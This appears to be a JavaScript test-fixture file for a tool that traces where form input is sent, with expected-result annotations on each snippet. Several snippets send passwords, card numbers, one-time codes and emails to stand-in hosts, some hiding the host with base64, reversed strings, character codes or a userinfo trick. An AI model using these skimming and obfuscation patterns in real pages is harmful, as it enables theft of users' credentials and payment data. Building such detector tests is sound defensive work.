//# url-constructor-relative
// flow: email > ucr.d10.example via fetch
// destination: https://ucr.d10.example/api/v1/lead
const base = 'https://ucr.d10.example/api/';
fetch(new URL('v1/lead', base), { method: 'POST', body: document.querySelector('input[type=email]').value });

//# url-protocol-relative-upward
// flow: search > self via fetch
// why: the address is relative to the page
fetch('../suggest?q=' + encodeURIComponent(document.querySelector('input[type=search]').value));

//# env-table-by-flag
// flow: username > etf.d10.example via fetch
// destination: https://etf.d10.example/login
const ENV = { prod: { api: 'https://etf.d10.example' }, dev: { api: 'http://localhost:3000' } };
const { api } = ENV['prod'];
fetch(`${api}/login`, { method: 'POST', body: document.querySelector('input[name=username]').value });

//# host-parts-reversed
// flow: email > hpr.d10.example via fetch
const host = 'elpmaxe.01d.rph'.split('').reverse().join('');
fetch('https://' + host + '/x', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# atob-host
// flow: password > ath.d10.example via fetch
const t = atob('aHR0cHM6Ly9hdGguZDEwLmV4YW1wbGUv');
fetch(t, { method: 'POST', body: document.querySelector('input[type=password]').value });

//# sharded-host
// flow: identifier > t{}.shd.d10.example via image
// destination: https://t{}.shd.d10.example/p.gif?u={}
var n = Math.floor(Math.random() * 4) + 1;
new Image().src = 'https://t' + n + '.shd.d10.example/p.gif?u=' + localStorage.getItem('uid');

//# replace-placeholders
// flow: phone > rpl.d10.example via fetch
// destination: https://rpl.d10.example/u/{}/calls
const tpl = 'https://rpl.d10.example/u/:id/calls';
fetch(tpl.replace(':id', encodeURIComponent(document.querySelector('input[type=tel]').value)));

//# url-host-assigned
// flow: email > uha.d10.example via fetch
// no destination: old.d10.example
const u = new URL('https://old.d10.example/in');
u.host = 'uha.d10.example';
fetch(u.href, { method: 'POST', body: document.querySelector('input[type=email]').value });

//# url-join-helper
// flow: card > ujh.d10.example via fetch
// destination: https://ujh.d10.example/v3/cards
const join = (...p) => p.map((s) => s.replace(/^\/+|\/+$/g, '')).join('/');
fetch(join('https://ujh.d10.example/', '/v3/', 'cards'), { method: 'POST', body: document.querySelector('[autocomplete=cc-number]').value });

//# from-char-code
// flow: otp > fcc.d10.example via fetch
const h = [102, 99, 99].map((c) => String.fromCharCode(c)).join('') + '.d10.example';
fetch(`//${h}/otp`, { method: 'POST', body: document.querySelector('input[autocomplete=one-time-code]').value });

//# socket-from-http-address
// flow: message > sfh.d10.example via websocket
// destination: wss://sfh.d10.example/chat
const httpBase = 'https://sfh.d10.example/chat';
const ws = new WebSocket(httpBase.replace(/^http/, 'ws'));
ws.onopen = () => ws.send(document.querySelector('textarea[name=message]').value);

//# first-of-fallback-list
// flow: device > ffl.d10.example via fetch
// flow: device > ffl2.d10.example via fetch
const hosts = ['ffl.d10.example', 'ffl2.d10.example'];
(async () => {
  for (const h of hosts) {
    try { await fetch(`https://${h}/ping?p=${navigator.platform}`); break; } catch { /* next */ }
  }
})();

//# script-own-address
// flow: device > ? via beacon
// why: the address depends on where the script was loaded from
const me = document.currentScript.src;
navigator.sendBeacon(me.replace('sdk.js', 'collect'), navigator.userAgent);

//# host-from-data-attribute
// flow: email > ? via fetch
// no destination: docs.d10.example
// see https://docs.d10.example/setup
const api2 = document.querySelector('script[data-api]').dataset.api;
fetch(api2 + '/lead', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# default-destination-overridden-by-options
// flow: email > dod.d10.example via fetch
// no destination: default.d10.example
class Api {
  constructor(opts) { this.o = { url: 'https://default.d10.example/', ...opts }; }
  post(v) { return fetch(this.o.url, { method: 'POST', body: v }); }
}
new Api({ url: 'https://dod.d10.example/' }).post(document.querySelector('input[type=email]').value);

//# near-user-info-is-no-host
// flow: email > uin.d10.example via fetch
// no destination: bank.d10.example
// why: what stands before the @ is a user name
fetch('https://bank.d10.example@uin.d10.example/x', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# near-namespace-address
// no flow
// no destination: www.w3.example
const svg = document.createElementNS('http://www.w3.example/2000/svg', 'svg');
svg.setAttribute('width', document.querySelector('input[type=search]').value.length);
document.body.append(svg);

//# near-host-in-query-of-self
// flow: email > self via fetch
// no destination: partner.d10.example
// why: the other host is only a value in the query
fetch('/track?for=' + encodeURIComponent('https://partner.d10.example/') , { method: 'POST', body: document.querySelector('input[type=email]').value });
